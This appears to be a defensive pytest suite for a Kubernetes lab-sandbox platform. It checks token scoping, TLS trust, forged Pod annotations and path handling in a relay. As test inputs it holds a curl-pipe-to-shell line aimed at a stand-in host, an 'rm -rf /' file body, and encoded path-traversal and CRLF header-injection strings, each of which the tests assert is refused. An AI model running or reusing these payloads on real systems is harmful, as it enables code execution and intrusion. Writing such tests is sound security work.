"""Attacks on sandboxes placed by Kubernetes (SANDBOX_BACKEND=kubernetes, issue #17).

- The placeholder Pod cannot run student code: pause image, no command, no shell, nothing
  writable, no capabilities, no service-account token; the lab's setup and files are data in
  an annotation the node agent hands to runtimed, never a container's command.
- A lab node's runtimed over TLS acts only for a valid token of its own: no token, a token of
  another node (another signing key), or one sandbox's token on another sandbox is refused; a
  client that does not trust the platform's CA does not talk to it at all.
- A forged ``kubelab.io/sandbox`` annotation cannot hand provisioning another student's
  sandbox, and nothing on a Pod decides where the web tier connects: the address comes from
  the Node object.
"""

from __future__ import annotations

import json
import ssl
from typing import Any

import pytest

from runtime import errors
from runtime.client import Client
from runtime.kube.apiserver import pki
from runtime.placement import (
    ANNOTATION_SANDBOX,
    ANNOTATION_SPEC,
    CONDITION_READY,
    KubernetesBackend,
    placeholder_pod,
    split_id,
)
from tests.scaleout.topology import Topology

SETUP = "curl http://evil.example/x | sh"


def test_the_placeholder_pod_cannot_run_student_code() -> None:
    spec = {
        "image": "busybox",
        "cpus": 0.5,
        "memory": 64 * 2**20,
        "setup": SETUP,
        "files": {"run.sh": "rm -rf /"},
        "env": {"X": "1"},
    }
    pod = placeholder_pod(spec, session="s1")
    (container,) = pod["spec"]["containers"]
    assert container["image"].startswith("registry.k8s.io/pause:")
    assert "command" not in container and "args" not in container and "env" not in container
    assert "volumeMounts" not in container and "volumes" not in pod["spec"]
    sc = container["securityContext"]
    assert sc == {"readOnlyRootFilesystem": True, "allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
    assert pod["spec"]["securityContext"]["runAsNonRoot"] is True
    assert pod["spec"]["automountServiceAccountToken"] is False
    assert "initContainers" not in pod["spec"] and "hostNetwork" not in pod["spec"]
    # the requests are the lab's, and limits equal them (the scheduler counts what it may use)
    assert container["resources"] == {
        "requests": {"cpu": "500m", "memory": str(64 * 2**20)},
        "limits": {"cpu": "500m", "memory": str(64 * 2**20)},
    }
    # the student's setup lives only in the spec annotation, for runtimed's sandbox
    text = json.dumps(pod["spec"])
    assert SETUP not in text and "rm -rf" not in text
    assert json.loads(pod["metadata"]["annotations"][ANNOTATION_SPEC])["setup"] == SETUP


def test_a_spec_runtimed_would_refuse_makes_no_pod() -> None:
    with pytest.raises(errors.BadRequest):
        placeholder_pod({"image": "../../etc", "cpus": 1}, session="s1")


@pytest.fixture(scope="module")
def boxes(backend: KubernetesBackend) -> dict[str, list[str]]:
    """Two sandboxes per node."""
    made: dict[str, list[str]] = {}
    for i in range(4):
        sid = backend.create({"image": "busybox", "cpus": 1, "memory": 64 * 2**20, "labels": {"session": f"a{i}"}})[
            "id"
        ]
        made.setdefault(split_id(sid)[1], []).append(sid)
    assert sorted(len(v) for v in made.values()) == [2, 2], made
    return made


def test_a_node_runtimed_refuses_callers_without_a_token_of_its_own(
    topo: Topology, backend: KubernetesBackend, boxes: dict[str, list[str]]
) -> None:
    a1, a2 = boxes["kl-node-a"]
    b1, _ = boxes["kl-node-b"]
    addr_a, addr_b = backend.node_address("kl-node-a"), backend.node_address("kl-node-b")
    web_a1 = backend.mint_token(a1, "web", 300)
    # no token at all
    with Client(addr_a, token="", ca=str(topo.ca)) as c, pytest.raises(errors.Unauthorized):
        c.list_sandboxes()
    # node a's token on node b: another signing key
    with Client(addr_b, token=web_a1, ca=str(topo.ca)) as c, pytest.raises(errors.Unauthorized):
        c.exec(split_id(b1)[2], ["id"])
    # one sandbox's token on its neighbour on the same node
    with Client(addr_a, token=web_a1, ca=str(topo.ca)) as c:
        with pytest.raises(errors.Forbidden):
            c.get_sandbox(split_id(a2)[2])
        with pytest.raises(errors.Forbidden):
            c.mint_token(split_id(a1)[2], role="grader")
        # ... and the web role may not exec even in its own sandbox
        with pytest.raises(errors.Forbidden):
            c.exec(split_id(a1)[2], ["id"])


def test_a_client_that_does_not_trust_the_platform_ca_never_talks(
    topo: Topology, backend: KubernetesBackend, tmp_path: Any
) -> None:
    other_ca, _ = pki.make_ca("someone-else")
    (tmp_path / "other.crt").write_bytes(other_ca)
    with (
        Client(backend.node_address("kl-node-a"), token=topo.admin_token, ca=str(tmp_path / "other.crt")) as c,
        pytest.raises(errors.Unreachable, match=r"CERTIFICATE_VERIFY_FAILED|certificate verify failed"),
    ):
        c.list_sandboxes()
    # and plain HTTP to the TLS port is no way round it
    import httpx

    with pytest.raises(httpx.HTTPError):
        httpx.get(backend.node_address("kl-node-a").replace("https://", "http://") + "/v1/sandboxes", timeout=5)
    assert ssl.HAS_SNI


def test_a_forged_sandbox_annotation_cannot_hand_over_another_sandbox(
    topo: Topology, backend: KubernetesBackend, boxes: dict[str, list[str]]
) -> None:
    victim = boxes["kl-node-a"][0]
    # a placeholder whose status says ready, bound to node a, naming the victim's sandbox and a
    # made-up endpoint: provisioning must not accept it as its own
    body = placeholder_pod({"image": "busybox", "cpus": 1, "memory": 64 * 2**20}, session="forged")
    body["spec"]["nodeName"] = "kl-node-a"
    body["metadata"]["annotations"][ANNOTATION_SANDBOX] = split_id(victim)[2]
    body["metadata"]["annotations"]["kubelab.io/endpoint"] = "https://203.0.113.9:7443"
    body["spec"]["containers"][0]["resources"] = {}
    # without the session label node a's agent leaves it alone (a racing agent would overwrite
    # the forgery with its own sandbox); what is tested is provisioning's own check
    del body["metadata"]["labels"]
    pod = backend.kube.request("POST", "/api/v1/namespaces/kubelab-sandboxes/pods", body=body)
    name = pod["metadata"]["name"]
    pod["status"] = {
        "phase": "Running",
        "conditions": [{"type": CONDITION_READY, "status": "True", "reason": "Forged"}],
    }
    backend.kube.request("PUT", f"/api/v1/namespaces/kubelab-sandboxes/pods/{name}/status", body=pod)
    with pytest.raises(errors.RuntimeError, match="not its own"):
        backend._wait_ready(name, pod["metadata"]["uid"], None)
    # and where the web tier connects is the Node's address, whatever a Pod says
    address, _box = backend.address_of(f"{name}/kl-node-a/{split_id(victim)[2]}")
    assert address == f"https://127.0.0.2:{topo.port}"
    backend.kube.request("DELETE", f"/api/v1/namespaces/kubelab-sandboxes/pods/{name}", body={})


# -- the per-sandbox APIs relayed by a node's runtimed (runtime.relay) ----------------------------
@pytest.fixture(scope="module")
def service_boxes(backend: KubernetesBackend) -> list[str]:
    """Two sandboxes with a lab cluster and a docker engine each, placed by the scheduler."""
    spec = {"image": "busybox", "cpus": 1, "memory": 256 * 2**20, "services": ["kubernetes", "docker"]}
    return [backend.create({**spec, "labels": {"session": f"svc{i}"}})["id"] for i in range(2)]


def _raw(topo: Topology, address: str, method: str, target: str, token: str) -> tuple[int, bytes]:
    """One request with ``target`` on the request line exactly as written (no client normalises it)."""
    import http.client

    host, _, port = address.removeprefix("https://").rpartition(":")
    ctx = ssl.create_default_context(cafile=str(topo.ca))
    conn = http.client.HTTPSConnection(host, int(port), context=ctx, timeout=30)
    try:
        conn.request(method, target, headers={"Authorization": f"Bearer {token}"})
        resp = conn.getresponse()
        return resp.status, resp.read()
    finally:
        conn.close()


def test_a_grader_reaches_its_own_sandboxs_cluster_and_engine_through_the_node(
    topo: Topology, backend: KubernetesBackend, service_boxes: list[str]
) -> None:
    import docker
    import kubernetes
    import yaml

    x = service_boxes[0]
    grader = backend.scoped(backend.mint_token(x, "grader", 300))
    kubeconfig = grader.kubeconfig(x)
    cfg = yaml.safe_load(kubeconfig)
    _pod, node, box = split_id(x)
    assert cfg["clusters"][0]["cluster"]["server"] == f"{backend.node_address(node)}/v1/sandboxes/{box}/kube-api"
    # its credential is runtimed's sandbox token; the relay speaks with the cluster's own
    assert cfg["users"][0]["user"]["token"] == grader.token
    api = kubernetes.config.new_client_from_config_dict(cfg)
    try:
        names = {n.metadata.name for n in kubernetes.client.CoreV1Api(api).list_namespace().items if n.metadata}
    finally:
        api.close()
    assert {"default", "kube-system"} <= names
    url = grader.docker_url(x)
    assert url == f"{backend.node_address(node)}/v1/sandboxes/{box}/docker-api"
    client = docker.DockerClient(
        base_url=url, version="1.41", tls=docker.tls.TLSConfig(ca_cert=str(topo.ca), verify=str(topo.ca))
    )
    client.api.headers["Authorization"] = f"Bearer {grader.token}"
    client.api.trust_env = False  # else $REQUESTS_CA_BUNDLE replaces the CA given (requests)
    try:
        assert client.ping() is True and isinstance(client.images.list(), list)
    finally:
        client.close()


def test_one_sandboxs_token_never_reaches_another_sandboxs_cluster_or_engine(
    topo: Topology, backend: KubernetesBackend, service_boxes: list[str]
) -> None:
    x, y = service_boxes
    token_x = backend.mint_token(x, "grader", 300)
    _pod, node_y, box_y = split_id(y)
    address_y = backend.node_address(node_y)
    for kind in ("kube-api/api/v1/namespaces", "docker-api/v1.41/images/json", "kubeconfig", "docker"):
        status, body = _raw(topo, address_y, "GET", f"/v1/sandboxes/{box_y}/{kind}", token_x)
        # 403 on the same node (another sandbox's token), 401 on the other (another signing key)
        assert status in (401, 403), (kind, status, body)
    # a kubeconfig built for Y with X's token is as useless
    with pytest.raises(errors.RuntimeError):
        backend.scoped(token_x).kubeconfig(y)


def test_a_web_token_gets_no_cluster_and_no_engine(
    topo: Topology, backend: KubernetesBackend, service_boxes: list[str]
) -> None:
    x = service_boxes[0]
    _pod, node, box = split_id(x)
    web_token = backend.mint_token(x, "web", 300)
    for kind in ("kubeconfig", "kube-api/api", "docker", "docker-api/_ping"):
        status, body = _raw(topo, backend.node_address(node), "GET", f"/v1/sandboxes/{box}/{kind}", web_token)
        assert status == 403, (kind, status, body)
    with pytest.raises(errors.Forbidden):
        backend.scoped(web_token).kubeconfig(x)
    # and without a token at all, not even the docker version handshake
    status, _ = _raw(topo, backend.node_address(node), "GET", f"/v1/sandboxes/{box}/docker-api/_ping", "")
    assert status == 401


@pytest.mark.parametrize(
    "tail",
    [
        "..%2f..%2f{other}/kubeconfig",
        "%2e%2e/%2e%2e/{other}/kube-api/api",
        "..%252f..%252f{other}/kube-api/api",
        "%2e%2e%2fkubeconfig",
        "/127.0.0.1:6443/api",
        "http://127.0.0.1:1/api",
        "api%5c..%5c..",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/{other}/kube-api/api",
        "api/v1/namespaces%0d%0aX-Injected:%201",
    ],
)
def test_the_relayed_path_is_data_never_a_route(
    topo: Topology, backend: KubernetesBackend, service_boxes: list[str], tail: str
) -> None:
    x, y = service_boxes
    _pod, node, box = split_id(x)
    other = split_id(y)[2]
    token = backend.mint_token(x, "grader", 300)
    for kind in ("kube-api", "docker-api"):
        target = f"/v1/sandboxes/{box}/{kind}/" + tail.format(other=other)
        status, body = _raw(topo, backend.node_address(node), "GET", target, token)
        assert status == 400 and b"refused relayed path" in body, (target, status, body)


def test_plain_dot_segments_reach_no_other_route(
    topo: Topology, backend: KubernetesBackend, service_boxes: list[str]
) -> None:
    x, y = service_boxes
    _pod, node, box = split_id(x)
    other = split_id(y)[2]
    token = backend.mint_token(x, "grader", 300)
    address = backend.node_address(node)
    # ../ unencoded on the request line: refused by the relay (or, were it resolved before
    # routing, by the other route's own token check): never another sandbox's or the admin's
    for method, target in (
        ("GET", f"/v1/sandboxes/{box}/kube-api/../../{other}/kubeconfig"),
        ("POST", f"/v1/sandboxes/{box}/kube-api/../tokens"),
        ("GET", f"/v1/sandboxes/{box}/docker-api/../../{other}/docker"),
    ):
        status, body = _raw(topo, address, method, target, token)
        assert status in (400, 401, 403), (target, status, body)


def test_connection_upgrades_are_refused_not_relayed(
    topo: Topology, backend: KubernetesBackend, service_boxes: list[str]
) -> None:
    import http.client

    x = service_boxes[0]
    _pod, node, box = split_id(x)
    token = backend.mint_token(x, "grader", 300)
    host, _, port = backend.node_address(node).removeprefix("https://").rpartition(":")
    conn = http.client.HTTPSConnection(
        host, int(port), context=ssl.create_default_context(cafile=str(topo.ca)), timeout=30
    )
    try:
        conn.request(
            "POST",
            f"/v1/sandboxes/{box}/kube-api/api/v1/namespaces/default/pods/p/exec?command=sh",
            headers={"Authorization": f"Bearer {token}", "Connection": "Upgrade", "Upgrade": "SPDY/3.1"},
        )
        resp = conn.getresponse()
        assert resp.status == 501 and b"plain HTTP only" in resp.read()
    finally:
        conn.close()


def test_a_nodes_preview_relay_takes_one_sandboxs_token_to_that_sandbox_only(
    topo: Topology, backend: KubernetesBackend, boxes: dict[str, list[str]]
) -> None:
    """The port preview under the kubernetes backend goes to the node's ``/v1/preview``
    (labs/preview.py): the sandbox named in the header must be the token's, the path is data."""
    import http.client

    a1, a2 = boxes["kl-node-a"]
    web_a1 = backend.mint_token(a1, "web", 300)
    host, _, port = backend.node_address("kl-node-a").removeprefix("https://").rpartition(":")

    def preview(sandbox: str, path: str) -> tuple[int, bytes]:
        conn = http.client.HTTPSConnection(
            host, int(port), context=ssl.create_default_context(cafile=str(topo.ca)), timeout=30
        )
        try:
            headers = {
                "Authorization": f"Bearer {web_a1}",
                "X-Kubelab-Sandbox": sandbox,
                "X-Kubelab-Port": "8080",
                "X-Kubelab-Path": path,
            }
            conn.request("GET", "/v1/preview", headers=headers)
            resp = conn.getresponse()
            return resp.status, resp.read()
        finally:
            conn.close()

    assert preview(split_id(a2)[2], "index.html")[0] == 403  # the neighbour's sandbox
    status, body = preview(split_id(a1)[2], "..%2f..%2fv1/sandboxes")
    assert status == 400 and b"refused preview path" in body, body
    # its own sandbox, nothing listening: the relay's own gateway answer, not a route of the API
    assert preview(split_id(a1)[2], "index.html")[0] == 502


def test_a_sessions_backend_opens_terminals_and_previews_of_its_own_sandbox_only(
    topo: Topology, backend: KubernetesBackend, boxes: dict[str, list[str]]
) -> None:
    """What the terminal consumer and the port preview speak through (labs.sandboxes.for_session:
    the backend scoped to the session's web token): its own sandbox works, a neighbour's on the
    same node is refused (403), one on another node too (401: another signing key), and a
    preview path that could leave the app never leaves this process."""
    import asyncio

    from runtime.urlsafety import UnsafePath

    a1, a2 = boxes["kl-node-a"]
    b1, _ = boxes["kl-node-b"]
    scoped = backend.scoped(backend.mint_token(a1, "web", 300))

    async def attempt() -> None:
        own = await scoped.create_session(a1, ["/bin/sh"])
        try:
            assert (await scoped.get_session(a1, own["session_id"]))["exited"] is False
            for other, status in ((a2, 403), (b1, 401)):
                with pytest.raises((errors.Forbidden, errors.Unauthorized)):
                    await scoped.create_session(other, ["/bin/sh"])
                with pytest.raises((errors.Forbidden, errors.Unauthorized)):
                    await scoped.attach(other, own["session_id"])
                answer = await scoped.preview(other, 8080, "index.html", "", method="GET", headers={}, body=b"")
                try:
                    assert answer.response.status == status, (other, answer.response.status)
                finally:
                    await answer.close()
            for path, query in (("..%2f..%2fv1/sandboxes", ""), ("index.html", "a=%0d%0aX-Injected:%201")):
                with pytest.raises(UnsafePath):
                    await scoped.preview(a1, 8080, path, query, method="GET", headers={}, body=b"")
        finally:
            await scoped.remove_session(a1, own["session_id"])
            await scoped.aclose()

    try:
        asyncio.run(attempt())
    finally:
        scoped.close()


class _Nodes:
    """A stand-in for the Kubernetes API (runtime.placement.KubeAPI's ``request``) that serves
    Node objects, recording every path asked for: what a compromised or odd API answer, or a
    Pod's ``spec.nodeName``, could feed ``node_address``."""

    def __init__(self, nodes: dict[str, Any]) -> None:
        self.nodes = nodes
        self.asked: list[str] = []

    def request(self, method: str, path: str, *args: Any, **kwargs: Any) -> Any:
        self.asked.append(path)
        name = path.rpartition("/")[2]
        if name not in self.nodes:
            raise errors.SandboxNotFound(f"nodes {name!r} not found")
        return {"status": {"addresses": [{"type": "InternalIP", "address": self.nodes[name]}]}}


@pytest.mark.parametrize(
    "node", ["../namespaces/kubelab/secrets/x", "a/b", "a?x=1", "a#b", "A", "a b", "%2e%2e", "", "x" * 254]
)
def test_a_node_name_is_data_never_a_path(node: str) -> None:
    kube = _Nodes({node: "10.0.0.5"})
    backend = KubernetesBackend(kube=kube, ca="/nonexistent/ca.crt")  # type: ignore[arg-type]
    with pytest.raises(errors.Unreachable, match="is not a node name"):
        backend.node_address(node)
    assert kube.asked == []  # refused before any request was made


@pytest.mark.parametrize(
    "address", ["evil.example", "10.0.0.5:443@evil.example", "10.0.0.5/x", "[::1]", "10.0.0.5 ", "1.2.3.4.5"]
)
def test_a_node_address_that_is_not_an_ip_is_refused(address: str) -> None:
    backend = KubernetesBackend(kube=_Nodes({"kl-node-a": address}), ca="/nonexistent/ca.crt")  # type: ignore[arg-type]
    with pytest.raises(errors.Unreachable, match="is not an IP address"):
        backend.node_address("kl-node-a")


@pytest.mark.parametrize(
    ("address", "url"), [("10.0.0.5", "https://10.0.0.5:7443"), ("fd00::5", "https://[fd00::5]:7443")]
)
def test_a_nodes_ip_becomes_its_runtimed_url(address: str, url: str) -> None:
    backend = KubernetesBackend(kube=_Nodes({"kl-node-a.example": address}), ca="/nonexistent/ca.crt")  # type: ignore[arg-type]
    assert backend.node_address("kl-node-a.example") == url
